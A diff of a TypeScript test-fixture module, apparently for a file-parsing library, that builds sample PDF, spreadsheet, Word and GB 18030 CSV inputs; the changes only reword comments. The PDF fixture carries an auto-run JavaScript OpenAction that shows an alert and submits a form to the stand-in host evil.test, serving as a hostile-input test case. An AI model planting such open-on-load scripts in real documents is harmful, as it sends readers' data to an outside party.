@@ -1,7 +1,7 @@
 import { readFileSync } from 'node:fs';
 import { writeXlsx } from 'hucre/xlsx';
 
-/** A PDF by hand: Chinese without its own font, a program that wants to run when it is opened, and a link. */
+/** A PDF with Chinese text without an embedded font, a script that would run on opening, and a link. */
 export function pdf(pages: readonly string[]): Buffer {
   const objects = [
     '<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (app.alert\\(1\\); this.submitForm\\("https://evil.test/"\\)) >> >>',
@@ -30,7 +30,7 @@ export function pdf(pages: readonly string[]): Buffer {
   return Buffer.from(text, 'latin1');
 }
 
-/** A workbook of two sheets, the first with more rows than are shown. */
+/** A workbook with two sheets, the first with more rows than are shown. */
 export async function workbook(): Promise<Buffer> {
   const parameters = Array.from({ length: 300 }, (_, at) => [`P${at}`, at * 1.5, at % 2 === 0]);
   const bytes = await writeXlsx({
@@ -48,10 +48,10 @@ export async function workbook(): Promise<Buffer> {
   return Buffer.from(bytes);
 }
 
-/** A text document with a heading, a list, a table, a picture of its own and one from elsewhere. */
+/** A text document with a heading, a list, a table, an embedded picture and a linked one. */
 export const manual = (): Buffer => readFileSync(new URL('files/manual.docx', import.meta.url));
 
-/** `型号,数量` and a row, as a Chinese Excel writes it. */
+/** A CSV file with the header `型号,数量` in GB 18030, as a Chinese Excel writes it. */
 export const gbTable = (): Buffer =>
   Buffer.concat([
     Buffer.from([0xd0, 0xcd, 0xba, 0xc5, 0x2c, 0xca, 0xfd, 0xc1, 0xbf, 0x0d, 0x0a]),
